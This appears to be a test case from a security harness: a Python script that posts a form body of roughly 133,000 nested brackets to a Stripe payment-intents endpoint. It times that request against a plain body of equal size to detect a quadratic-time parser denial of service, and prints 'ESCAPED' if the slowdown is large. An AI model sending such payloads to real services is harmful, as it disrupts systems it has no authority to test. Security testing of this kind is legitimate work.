# attack: a name of many brackets slows a careless check with the square of its length: one request stops the broker
# expect: broker
# validator: refused
import time

import requests

URL = "https://api.stripe.com/v1/payment_intents"
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
SIZE = 400_000


def seconds(body):
    started = time.monotonic()
    try:
        print(requests.post(URL, data=body, headers=FORM, timeout=2.4).status_code)
    except requests.RequestException as error:
        print(type(error).__name__)
    return time.monotonic() - started


# Against a body of the same size without brackets, so that a slow machine does not count.
plain = seconds(b"description=" + b"a" * SIZE)
nested = seconds(b"a" + b"[a]" * (SIZE // 3) + b"=1")
print(f"{plain:.2f} s and {nested:.2f} s")
if nested > 1 and nested > 8 * plain:
    print("ESCAPED: one small request keeps the broker busy for seconds", flush=True)
